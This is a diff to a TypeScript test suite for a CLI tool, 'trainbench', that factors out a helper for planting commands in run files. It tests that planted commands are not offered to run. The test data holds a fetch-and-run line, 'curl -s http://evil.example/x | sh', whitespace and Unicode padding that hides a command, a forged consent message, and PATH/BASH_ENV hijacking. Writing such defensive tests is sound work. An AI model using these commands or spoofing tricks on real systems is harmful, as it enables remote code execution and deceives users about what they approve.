@@ -61,6 +61,16 @@ beforeAll(() => {
 });
 
 describe('a command planted in a run file', () => {
+  /** A copy of the planted run under `id`, its target the command and environment given; returns its removal. */
+  const plantTarget = (id: string, command: string[], env: Record<string, string> = {}) => {
+    mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
+    const record = JSON.parse(readFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), 'utf8')) as { id: string; config: { target: Record<string, unknown> } };
+    record.id = id;
+    record.config.target = { kind: 'script', command, cwd: '/tmp', env };
+    writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), JSON.stringify(record));
+    return () => rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
+  };
+
   it('check --against shows its command, cwd and env escaped before --yes, and runs nothing', async () => {
     const r = await trainbench('check', '--against', ID, '--workspace', ws.dir);
     expect(r.code).toBe(2);
@@ -123,31 +133,20 @@ describe('a command planted in a run file', () => {
   it('a command whose environment is too long to read before agreeing is not offered to run (re-attack 41)', async () => {
     // A planted environment of ~900 KB would scroll the command out of any terminal's history above the --yes line.
     const id = '20260101-000003-padded';
-    mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
-    const record = JSON.parse(readFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), 'utf8')) as { id: string; config: { target: Record<string, unknown> } };
-    record.id = id;
     const pad = '/usr/bin/python3 train.py '.repeat(4000);
-    record.config.target = { kind: 'script', command: ['/bin/sh', '-c', 'curl -s http://evil.example/x | sh'], cwd: '/tmp', env: Object.fromEntries(Array.from({ length: 9 }, (_, k) => [`PAD${k}`, pad])) };
-    writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), JSON.stringify(record));
+    const done = plantTarget(id, ['/bin/sh', '-c', 'curl -s http://evil.example/x | sh'], Object.fromEntries(Array.from({ length: 9 }, (_, k) => [`PAD${k}`, pad])));
     const r = await trainbench('check', '--against', id, '--workspace', ws.dir);
     expect(r.code).toBe(2);
     expect(r.stderr).toMatch(/can fill [\d,]+ columns of a terminal \([\d,]+ lines of 80\), more than the 4,096 anyone reads before agreeing: it is not offered to run; read the run's file and start the command yourself/);
     expect(r.stderr).not.toContain('--yes');
     expect(r.stderr.length).toBeLessThan(2000);
-    rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
+    done();
   });
 
   it('a command padded with blanks shows them escaped, and too many are not offered (second re-attack of issue 41)', async () => {
     // 15,500 spaces (or U+3000, two columns each) between the payload and a harmless tail left only blank rows
     // around the --yes line while fitting a cap of characters.
-    const plant = (id: string, script: string) => {
-      mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
-      const record = JSON.parse(readFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), 'utf8')) as { id: string; config: { target: Record<string, unknown> } };
-      record.id = id;
-      record.config.target = { kind: 'script', command: ['sh', '-c', script], cwd: '/tmp', env: {} };
-      writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), JSON.stringify(record));
-      return () => rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
-    };
+    const plant = (id: string, script: string) => plantTarget(id, ['sh', '-c', script]);
     // And the third re-attack's: a Tangut character with three spacing marks, drawn five columns wide, 3,790 times.
     for (const blank of [' ', '\u3000', '\u{17000}\u0903\u0903\u0903'.repeat(3_790)]) {
       const padding = blank.length > 2 ? blank : blank.repeat(15_500);
@@ -169,32 +168,24 @@ describe('a command planted in a run file', () => {
   it('a command whose words spell a consent message of their own ends with the line that says what runs (fourth re-attack of issue 41)', async () => {
     // Plain words, no quoting needed, wrapped at 80 columns into a fake prompt and a fake refusal naming a harmless command.
     const id = '20260101-000006-forged';
-    mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
-    const record = JSON.parse(readFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), 'utf8')) as { id: string; config: { target: Record<string, unknown> } };
-    record.id = id;
     const fake = `me@rig project % trainbench check --against ${id} trainbench: run ${id} measured a command, which check would run again: the folder /home/me/project and the command python3 train.py --epochs 1`;
     const command = ['/bin/sh', '-c', 'touch pwned', ...Array.from({ length: 30 }, () => '-'.repeat(79)), ...fake.split(' ')];
-    record.config.target = { kind: 'script', command, cwd: '/tmp', env: {} };
-    writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), JSON.stringify(record));
+    const done = plantTarget(id, command);
     const r = await trainbench('check', '--against', id, '--workspace', ws.dir);
     expect(r.code).toBe(2);
     const last = r.stderr.trimEnd().split('\n').at(-1)!;
     expect(last).toMatch(new RegExp(`^  It runs /bin/sh -c 'touch pwned' … \\(${command.length} words in all\\); pass --yes [0-9a-f]{32} to run exactly this$`));
-    rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
+    done();
   });
 
   it('the line that says what runs names the variables that change what runs (fifth re-attack of issue 41)', async () => {
     // PATH=. ran the folder's own ./python3, and BASH_ENV a file of the folder, under "It runs python3 train.py".
     const id = '20260101-000007-envrun';
-    mkdirSync(path.join(ws.dir, 'runs', id), { recursive: true });
-    const record = JSON.parse(readFileSync(path.join(ws.dir, 'runs', ID, 'run.json'), 'utf8')) as { id: string; config: { target: Record<string, unknown> } };
-    record.id = id;
-    record.config.target = { kind: 'script', command: ['python3', 'train.py'], cwd: '/tmp', env: { CUDA_VISIBLE_DEVICES: '0', PATH: '.:/usr/bin:/bin', BASH_ENV: '.setup', constructor: 'x' } };
-    writeFileSync(path.join(ws.dir, 'runs', id, 'run.json'), JSON.stringify(record));
+    const done = plantTarget(id, ['python3', 'train.py'], { CUDA_VISIBLE_DEVICES: '0', PATH: '.:/usr/bin:/bin', BASH_ENV: '.setup', constructor: 'x' });
     const r = await trainbench('check', '--against', id, '--workspace', ws.dir);
     expect(r.code).toBe(2);
     expect(r.stderr.trimEnd().split('\n').at(-1)).toMatch(/^ {2}It runs python3 train\.py, with PATH, BASH_ENV set in its environment; pass --yes [0-9a-f]{32} to run exactly this$/);
-    rmSync(path.join(ws.dir, 'runs', id), { recursive: true });
+    done();
   });
 
   it('check --against a run whose file cannot be read says what is wrong with the file, not that there is no run', async () => {
